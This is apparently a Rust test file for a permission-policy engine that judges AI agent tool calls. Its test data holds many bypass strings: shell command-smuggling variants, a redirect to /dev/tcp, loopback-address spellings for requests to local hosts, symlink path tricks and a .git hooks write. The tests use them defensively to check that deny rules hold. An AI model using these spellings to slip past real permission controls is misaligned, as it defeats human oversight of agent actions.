//! Attacks on rules (bypasses), and what the index could miss.

use std::path::{Path, PathBuf};

use haft_core::Decision;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::super::*;
use crate::{
    context::Mode,
    path_resolver::{PathResolver, normalize_lexically},
    pattern::{PathBase, Pattern},
};

fn rule(decision: Decision, text: &str) -> Rule {
    let anchor = PathBase { directory: Some("/w".into()), home: Some("/home/u".into()) };
    Rule::new(decision, Pattern::parse(text, &anchor).unwrap_or_else(|e| panic!("{text}: {e}")))
}

fn of_shell(rules: &[(Decision, &str)], command: &str) -> Decision {
    let rules = rules.iter().map(|(d, text)| rule(d.clone(), text)).collect();
    let rules = Rules::new(rules, PolicyContext::default()).unwrap();
    rules.judge_sample(&Sample::new("shell", json!({"command": command}))).decision
}

#[test]
fn denied_command_is_denied_behind_every_wrapper() {
    let wrong: Vec<&str> = include_str!("attacks.txt")
        .split("\n---\n")
        .map(|text| text.trim_matches('\n'))
        .filter(|text| {
            let rules = [(Decision::Allow, "Bash(*)"), (Decision::Deny, "Bash(rm *)")];
            of_shell(&rules, text) == Decision::Allow
        })
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn allowed_command_does_not_allow_another_one() {
    let wrong: Vec<&str> = [
        "git status; x",
        "git status\nx",
        "git status & x",
        "git status | x",
        "git status $(x)",
        "git status \"`x`\"",
        "git status <(x)",
        "git status > f",
        "git status >> f",
        "git status &> f",
        "git status >| f",
        "git status >&f",
        "git status <> f",
        "git status 2> f",
        "git status < f",
        "git status > /dev/tcp/x.org/80",
        "git status <<END\n$(x)\nEND",
        "git status ${y:-$(x)}",
        "git status ${y:=$(x)}",
        "git status $((a[$(x)]))",
        "GIT_SSH_COMMAND=x git status",
        "PATH=. git status",
        "LD_PRELOAD=x git status",
        "PATH=.; git status",
        "export PATH=.; git status",
        "alias git=x; git status",
        "git() { x; }; git status",
        "cd /; git status",
        "./git status",
        "/tmp/git status",
        "git -c core.fsmonitor=x status",
        "git -C /x status",
        "'git status' y",
        "env git status",
        "sudo git status",
        "xargs -0 git status",
        "time -o f git status",
        "timeout $x git status",
        "$x git status",
        "git $x",
        "git s*",
        "if git status; then x; fi",
        "coproc git status",
        "git status \u{a0}; x",
        "git status \r x",
        "exec git status; x",
        "watch git status",
        "trap x EXIT; git status",
        "{ git status; } > f",
        "(git status) > f",
        "for i in $(x); do git status; done",
        "case $(x) in *) git status;; esac",
        "[[ $(x) ]] && git status",
    ]
    .into_iter()
    .filter(|text| of_shell(&[(Decision::Allow, "Bash(git status *)")], text) == Decision::Allow)
    .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    for fine in ["git status", "git status -s", "LANG=C git status 2>&1", "timeout 5 git status"] {
        let decision = of_shell(&[(Decision::Allow, "Bash(git status *)")], fine);
        assert_eq!(decision, Decision::Allow, "{fine}");
    }
}

#[test]
fn malformed_rule_files_are_never_partially_read() {
    use crate::{
        files::{ConfigFile, FileFormat, LoadOptions, PolicyConfig},
        rule::ConfigLayer,
    };
    let read = |text: &str, form: FileFormat, trusted: bool| {
        let file = ConfigFile {
            layer: ConfigLayer::Project,
            form,
            path: "/w/haft.toml".into(),
            anchor: "/w".into(),
            text: text.to_owned(),
        };
        PolicyConfig::read(&[file], &LoadOptions { trusted, ..LoadOptions::default() })
    };
    let rule = "[[rule]]\nmatch = \"Bash(rm *)\"\ndecision = \"deny\"\n";
    for good in [rule.to_owned(), rule.replace('\n', "\r\n"), format!("\u{feff}{rule}")] {
        let found = read(&good, FileFormat::Toml, false).map(|setup| setup.rules.len());
        assert_eq!(found.ok(), Some(1), "{good:?}");
    }
    for bad in [
        format!("{rule}\0"),
        format!("{rule}decision = \"allow\"\n"),
        format!("{rule}Decision = \"allow\"\n"),
        format!("{rule}priority = 99999999999999999999\n"),
        format!("{rule}priority = 3000000000\n"),
        format!("{rule}priority = 1.5\n"),
        format!("{rule}enabled = \"false\"\n"),
        format!("{rule}enabled = 0\n"),
        format!("{rule}except = []\n"),
        format!("{rule}except = [1]\n"),
        format!("{rule}test.allow = [\"ls\"]\n"),
        "[rule]\nmatch = \"x\"\ndecision = \"deny\"\n".to_owned(),
        "rule = [{ match = \"x\", decision = \"Deny\" }]\n".to_owned(),
        "rule = [{ match = \"\", decision = \"deny\" }]\n".to_owned(),
        "rule = [{ match = [[\"x\"]], decision = \"deny\" }]\n".to_owned(),
        "defaults.mode = \"Plan\"\n".to_owned(),
        "defaults.mode = [\"plan\"]\n".to_owned(),
    ] {
        assert!(read(&bad, FileFormat::Toml, true).is_err(), "{bad}");
    }
    for bad in [
        r#"{"permissions": {"deny": "Bash(rm *)"}}"#,
        r#"{"permissions": {"deny": [1]}}"#,
        r#"{"permissions": {"deny": ["Bash(rm"]}}"#,
        r#"{"permissions": {"deny": ["Bash(rm *)"], "deny": []}}"#,
        r#"{"permissions": {"deny": ["Bash(rm *)"]}, "permissions": {}}"#,
        r#"{"permissions": {"deny": ["Bash(rm *)"]}} x"#,
        r#"{"permissions": []}"#,
        r#"[]"#,
    ] {
        assert!(read(bad, FileFormat::Settings, true).is_err(), "{bad}");
    }
    // An untrusted directory may only restrict.
    let loose = "defaults.mode = \"bypassPermissions\"\nworkspace.roots = [\"/\"]\n\
        rule = [{ match = \"*\", decision = \"allow\" }, \
        { match = \"x\", decision = \"ask\", rewrite = { a = 1 } }]\n\
        [[hooks.PreToolUse]]\ncommand = \"evil\"\n[tool.x.args]\ny = \"url\"\n";
    let setup = read(loose, FileFormat::Toml, false).unwrap();
    assert_eq!(setup.context.mode, Mode::Default);
    assert!(setup.context.roots.is_empty() && setup.context.argument_kinds.is_empty());
    assert!(setup.hooks.is_empty());
    let rules: Vec<_> = setup.rules.iter().map(|r| (&r.decision, r.rewrite.len())).collect();
    assert_eq!(rules, [(&Decision::Ask, 0)]);
}

/// A file system with a few symlinks.
#[derive(Debug)]
struct Linked;

const LINKS: [(&str, &str); 4] =
    [("/w/link", "/w/real"), ("/home/u", "/h/u"), ("/w/real/secret", "/x"), ("/w/odd", "/w/b")];

impl PathResolver for Linked {
    fn resolve(&self, path: &Path) -> Result<PathBuf, String> {
        let mut path = normalize_lexically(path);
        for _ in 0..8 {
            let link =
                LINKS.iter().find_map(|(from, to)| Some((path.strip_prefix(from).ok()?, to)));
            let Some((rest, to)) = link else { break };
            path = if rest.as_os_str().is_empty() { to.into() } else { Path::new(to).join(rest) };
        }
        match path.to_str() {
            Some(text) if text.contains("gone") => Err("permission denied".to_owned()),
            _ => Ok(path),
        }
    }
}

fn of_path(deny: &str, path: &str) -> Decision {
    let context = PolicyContext {
        resolver: std::sync::Arc::new(Linked),
        home: Some("/home/u".into()),
        ..PolicyContext::default()
    };
    let rules = vec![rule(Decision::Allow, "read_file"), rule(Decision::Deny, deny)];
    let rules = Rules::new(rules, context).unwrap();
    let mut sample = Sample::new("read_file", json!({"path": path}));
    sample.scope = haft_core::Scope::from(haft_core::RunScope {
        working_directory: Path::new("/w").into(),
        ..haft_core::RunScope::default()
    });
    rules.judge_sample(&sample).decision
}

#[test]
fn deny_through_a_symlink_denies_its_target() {
    for (deny, path) in [
        ("Read(./link/key)", "real/key"),
        ("Read(/link/key)", "/w/real/key"),
        ("Read(//w/link/**)", "real/key"),
        ("Read(~/key)", "/h/u/key"),
        ("path=./link/key", "real/key"),
        ("Read(./real/key)", "link/key"),
        ("Read(./odd)", "b"),
    ] {
        assert_eq!(of_path(deny, path), Decision::Deny, "{deny} {path}");
    }
    assert_eq!(of_path("Read(./link/key)", "real/lock"), Decision::Allow);
}

#[test]
fn ambiguous_source_name_is_denied_in_every_split() {
    for (deny, source, tool) in [
        ("mcp__a__b__c", "a", "b__c"),
        ("mcp__a__b__c", "a__b", "c"),
        ("mcp__a__*", "a__b", "c"),
        ("mcp__a__b", "a__b", "c"),
        ("mcp__a___b", "a_", "b"),
        ("mcp__a___b", "a", "_b"),
    ] {
        let rules = Rules::new(vec![rule(Decision::Deny, deny)], PolicyContext::default()).unwrap();
        let sample = Sample::new("far", json!({}));
        let mut facts = sample.facts(&rules.context);
        facts.names.remote = Some((source, tool));
        let verdict = rules.rule_on(&facts, None, &mut ()).verdict(&rules);
        assert_eq!(verdict.decision, Decision::Deny, "{deny} {source} {tool}");
    }
}

fn words() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "rm",
        "git",
        "push",
        "x",
        "sudo",
        "-c",
        "\"rm x\"",
        "'git push'",
        "$V",
        "/bin/rm",
        "r?",
        "env",
        "sh",
        "timeout 5",
        "A=1",
        "'a*b'",
        "\\*x",
        ";",
        "&&",
        "|",
        "> a",
        "> link/a",
        "\"\"",
    ]);
    prop::collection::vec(word, 1..5).prop_map(|words| words.join(" "))
}

fn steps() -> impl Strategy<Value = String> {
    let step = prop::sample::select(vec![
        "a", "b", "link", "real", "secret", "w", "home", "u", "h", "x", "odd", "gone",
    ]);
    prop::collection::vec(step, 1..4).prop_map(|steps| steps.join("/"))
}

fn path() -> impl Strategy<Value = String> {
    let start = prop::sample::select(vec!["", "./", "/", "/w/", "~/", "../", "/home/u/", "/h/u/"]);
    (start, steps()).prop_map(|(start, steps)| format!("{start}{steps}"))
}

fn path_pattern() -> impl Strategy<Value = String> {
    let start = prop::sample::select(vec!["", "./", "/", "//w/", "~/", "../", "//", "//home/u/"]);
    let step = prop::sample::select(vec![
        "a", "b", "link", "real", "secret", "odd", "**", "*", "[ab]", "l*", "w", "h", "x",
    ]);
    (start, prop::collection::vec(step, 1..4))
        .prop_map(|(start, steps)| format!("{start}{}", steps.join("/")))
}

fn host() -> impl Strategy<Value = String> {
    let label = prop::sample::select(vec!["a", "b", "x", "org", "1"]);
    prop::collection::vec(label, 1..4).prop_map(|labels| labels.join("."))
}

fn host_pattern() -> impl Strategy<Value = String> {
    let label = prop::sample::select(vec!["a", "b", "x", "org", "*", "a*", "1"]);
    prop::collection::vec(label, 1..4).prop_map(|labels| labels.join("."))
}

fn remote() -> impl Strategy<Value = (String, String)> {
    let name = || prop::sample::select(vec!["a", "b", "a__b", "a_", "_b", "b__c", "c", "ab"]);
    (name(), name()).prop_map(|(source, tool)| (source.to_owned(), tool.to_owned()))
}

fn pattern_text() -> impl Strategy<Value = String> {
    let tool = prop::sample::select(vec![
        "shell",
        "read_file",
        "fetch_url",
        "mail_send",
        "mail_*",
        "*",
        "Bash",
        "Read",
        "Edit",
        "WebFetch",
        "Write",
        "mcp__a",
        "mcp__a__b",
        "mcp__a__*",
        "mcp__a__b__c",
        "mcp__*",
        "mcp__a_*",
        "mcp__a___b",
        "mcp__a__b*",
        "Agent(x)",
        "mail_send(to:x)",
        "mail_send(to:y*)",
        "mail_send(to:*y)",
    ]);
    let command = prop::sample::select(vec![
        "rm *",
        "rm",
        "rm:*",
        "git push *",
        "git *",
        "*",
        "rm*",
        "sudo *",
        "git push",
        "r* x",
        "A=1 rm *",
        "\\*x",
        "'git push' *",
        "a\\*b",
        "git  push *",
    ]);
    let selector = prop_oneof![
        prop::sample::select(vec![
            "tool=shell",
            "tool=mcp__a__b",
            "source=a",
            "source=a__b",
            "arg.to=x",
            "arg.to=1",
            "arg.to=null",
            "arg.to.a=x",
            "arg.to=x|1",
            "arg.to=x*",
            "arg.to=*x",
            "arg.to=1*",
            "arg.to=*l",
            "arg.to=y*x",
            "arg.to=é*",
            "arg.to=*é",
            "arg.to=*",
            "read_only",
            "tool=read_file|shell",
            "tool=mcp__a",
            "effect=write",
            "capability=network",
        ])
        .prop_map(str::to_owned),
        path_pattern().prop_map(|path| format!("path={path}")),
        host_pattern().prop_map(|host| format!("host={host}")),
    ];
    let head = prop_oneof![
        tool.prop_map(str::to_owned),
        command.prop_map(|command| format!("Bash({command})")),
        path_pattern().prop_map(|path| format!("Read({path})")),
        path_pattern().prop_map(|path| format!("Edit({path})")),
        host_pattern().prop_map(|host| format!("WebFetch(domain:{host})")),
    ];
    prop_oneof![
        head.clone(),
        selector.clone(),
        (head, selector.clone()).prop_map(|(head, selector)| format!("{head} {selector}")),
        (selector.clone(), selector).prop_map(|(a, b)| format!("{a} {b}")),
    ]
}

#[derive(Debug, Clone)]
enum Made {
    Of(&'static str, Value),
    Remote(String, String),
}

fn made() -> impl Strategy<Value = Made> {
    prop_oneof![
        words().prop_map(|command| Made::Of("shell", json!({"command": command}))),
        path().prop_map(|path| Made::Of("read_file", json!({"path": path}))),
        path().prop_map(|path| Made::Of("edit_file", json!({"path": path}))),
        host().prop_map(|host| Made::Of("fetch_url", json!({"url": format!("https://{host}/p")}))),
        prop::sample::select(vec![
            json!({"to": "x"}),
            json!({"to": "éxé"}),
            json!({"to": format!("y{}x", " ".repeat(1 << 18))}),
            json!({"to": true}),
            json!({"to": 11}),
            json!({"to": ["yx", ["x"]]}),
            json!({"to": ["y", "x"]}),
            json!({"to": {"a": "x"}}),
            json!({"to": 1.0}),
            json!({"to": null}),
            json!({"to.a": "y", "to": {"a": "x"}}),
            json!({}),
        ])
        .prop_map(|arguments| Made::Of("mail_send", arguments)),
        remote().prop_map(|(source, tool)| Made::Remote(source, tool)),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(20_000))]
    #[test]
    fn index_finds_every_matching_rule(
        text in pattern_text(),
        call in made(),
        allows in any::<bool>(),
    ) {
        let decision = if allows { Decision::Allow } else { Decision::Deny };
        let anchor = PathBase { directory: Some("/w".into()), home: Some("/home/u".into()) };
        let Ok(pattern) = Pattern::parse(&text, &anchor) else { return Ok(()) };
        let context = PolicyContext {
            resolver: std::sync::Arc::new(Linked),
            home: Some("/home/u".into()),
            ..PolicyContext::default()
        };
        let rules = Rules::new(vec![Rule::new(decision, pattern)], context.clone()).unwrap();
        let (tool, arguments) = match &call {
            Made::Of(tool, arguments) => (*tool, arguments.clone()),
            Made::Remote(..) => ("far", json!({})),
        };
        let mut sample = Sample::new(tool, arguments);
        sample.scope = haft_core::Scope::from(haft_core::RunScope {
            working_directory: Path::new("/w").into(),
            ..haft_core::RunScope::default() });
        let mut facts = sample.facts(&context);
        if let Made::Remote(source, tool) = &call {
            facts.names.remote = Some((source, tool));
        }
        let index = if allows { &rules.allow } else { &rules.deny };
        if rules.applies(0, &facts).is_some() {
            prop_assert!(index.find(&facts, &rules.rules).contains(&0), "{text} {call:?}");
        }
        if !allows && rules.rules[0].matches[0].covers_tool(&facts.names) {
            prop_assert!(rules.hiders.find_tool(&facts.names).contains(&0), "{text} {call:?}");
        }
    }
}

fn judged(rules: &[(Decision, &str)], tool: &str, arguments: Value) -> Decision {
    let rules = rules.iter().map(|(d, text)| rule(d.clone(), text)).collect();
    let context =
        PolicyContext { resolver: std::sync::Arc::new(Linked), ..PolicyContext::default() };
    let rules = Rules::new(rules, context).unwrap();
    let mut sample = Sample::new(tool, arguments);
    sample.scope = haft_core::Scope::from(haft_core::RunScope {
        working_directory: Path::new("/w").into(),
        ..haft_core::RunScope::default()
    });
    rules.judge_sample(&sample).decision
}

#[test]
fn argument_cannot_bypass_a_rule_by_another_spelling() {
    use Decision::{Allow, Ask, Deny};
    for (deny, arguments) in [
        ("send arg.to.name=evil", json!({"to.name": "bob", "to": {"name": "evil"}})),
        ("send arg.to.name=evil", json!({"to": [{"name": "bob"}, {"name": "evil"}]})),
        ("send arg.n=1", json!({"n": 1.0})),
        ("send arg.n=100", json!({"n": 1e2})),
        ("send arg.n=1", json!({"n": "1"})),
        ("send arg.n=1", json!({"n": [[1]]})),
        ("send arg.b=true", json!({"b": true})),
        ("send arg.x=null", json!({"x": null})),
    ] {
        let rules = [(Allow, "send"), (Deny, deny)];
        assert_eq!(judged(&rules, "send", arguments.clone()), Deny, "{deny} {arguments}");
    }
    let twice = json!({"to.name": "bob", "to": {"name": "evil"}});
    assert_eq!(judged(&[(Allow, "send arg.to.name=bob")], "send", twice), Ask);
    assert_eq!(judged(&[(Allow, "send arg.n=1")], "send", json!({"n": 1.5})), Ask);
}

#[test]
fn host_cannot_bypass_a_rule_by_another_spelling() {
    for url in [
        "http://127.0.0.1/",
        "http://[::ffff:127.0.0.1]/",
        "http://[::FFFF:7F00:1]:80/",
        "http://a@127.0.0.1:80",
        "http://127.1/",
        "http://0x7f.0.0.1/",
        "http://127.0.0.1./",
        "http://127.0.0.1\\@x.org/",
    ] {
        let rules = [(Decision::Allow, "fetch_url"), (Decision::Deny, "host=127.0.0.1")];
        assert_eq!(judged(&rules, "fetch_url", json!({"url": url})), Decision::Deny, "{url}");
    }
}

#[test]
fn extra_spaces_in_a_pattern_or_a_word_do_not_matter() {
    use Decision::{Allow, Ask, Deny};
    let push = json!({"command": "git push origin"});
    assert_eq!(judged(&[(Allow, "Bash"), (Deny, "Bash(git  push   *)")], "shell", push), Deny);
    let one_word = json!({"command": "'git status' x"});
    assert_eq!(judged(&[(Allow, "Bash(git status *)")], "shell", one_word), Ask);
}

#[test]
fn protected_name_is_allowed_only_by_a_rule_that_covers_the_write() {
    use Decision::{Allow, Ask};
    let write = |path: &str| json!({"path": path});
    let whole = (Allow, "Edit(./**)");
    for (allow, path, wanted) in [
        ("Edit(./.git/**)", ".git/config", Allow),
        ("Edit(./.github/**)", ".git/config", Ask),
        ("Read(./.git/**)", ".git/config", Ask),
        ("Edit(./.github/**)", ".github/.claude/settings.json", Ask),
        ("Edit(./.github/.claude/**)", ".github/.claude/settings.json", Allow),
        ("Edit(./src/**)", "src/a", Allow),
    ] {
        let rules = [whole.clone(), (Allow, allow)];
        assert_eq!(judged(&rules, "edit_file", write(path)), wanted, "{allow} {path}");
    }
    let both = "cat .git/HEAD > .git/hooks/pre-commit";
    let rules = [whole, (Allow, "Bash(cat .git/HEAD)")];
    assert_eq!(judged(&rules, "shell", json!({"command": both})), Ask);
}

#[test]
fn label_deny_applies_to_all_worse_labels() {
    use haft_core::{Confidentiality, Label, Trust};
    for (text, label, denied) in [
        ("label=internal", (Trust::Trusted, Confidentiality::Secret), true),
        ("label=workspace", (Trust::Untrusted, Confidentiality::Public), true),
        ("label=secret", (Trust::Trusted, Confidentiality::Internal), false),
        ("label=untrusted", (Trust::Workspace, Confidentiality::Public), false),
        ("label=public", (Trust::Trusted, Confidentiality::Secret), false),
    ] {
        let deny = rule(Decision::Deny, text);
        let rules = Rules::new(vec![deny], PolicyContext::default()).unwrap();
        let mut sample = Sample::new("mail_send", json!({}));
        let (trust, confidentiality) = label;
        let label = Label { trust, confidentiality };
        sample.scope = haft_core::Scope { label, ..haft_core::Scope::default() };
        let verdict = rules.judge_sample(&sample);
        assert_eq!(verdict.decision == Decision::Deny, denied, "{text}");
    }
}

#[test]
fn suggestion_is_never_wider_than_reported() {
    use crate::suggest::RecordedDecision;
    let rules = Rules::new(Vec::new(), PolicyContext::default()).unwrap();
    let recorded = |command: &str| RecordedDecision {
        tool: "Bash".to_owned(),
        arguments: json!({"command": command}),
        decision: "allow".to_owned(),
    };
    for command in ["rm *.tmp", "ls *", "touch a* b"] {
        let found = rules.suggest(&[recorded(command), recorded(command)]);
        assert!(found.is_empty(), "{command}: {found:?}");
    }
    let found = rules.suggest(&[recorded("mv * a"), recorded("mv * b")]);
    assert!(found.iter().all(|s| !s.also_allows.is_empty()), "{found:?}");
}

#[test]
#[expect(clippy::disallowed_methods, reason = "a test may look at the clock")]
fn many_rules_and_large_calls_are_judged_fast() {
    let mut all = vec![rule(Decision::Allow, "*")];
    for n in 0..1_000 {
        all.push(rule(
            Decision::Deny,
            &match n % 4 {
                0 => format!("Bash(*tool{n}*x*y*)"),
                1 => format!("Read(./**/dir{n}/*a*b*/**/c)"),
                2 => format!("send arg.text=*word{n}*a*b*c"),
                _ => format!("host=*.a{n}.org"),
            },
        ));
    }
    let rules = Rules::new(all, PolicyContext::default()).unwrap();
    for (tool, arguments) in [
        ("shell", json!({"command": format!("echo {}", "tool x ".repeat(1_400))})),
        ("shell", json!({"command": "echo $A ".repeat(1_200)})),
        ("send", json!({"text": "word ab".repeat(150_000)})),
        ("read_file", json!({"path": "dir1/a".repeat(2_500)})),
    ] {
        let start = std::time::Instant::now();
        rules.judge_sample(&Sample::new(tool, arguments));
        let took = start.elapsed();
        assert!(took.as_secs() < 20, "{tool} took {took:?}");
    }
}
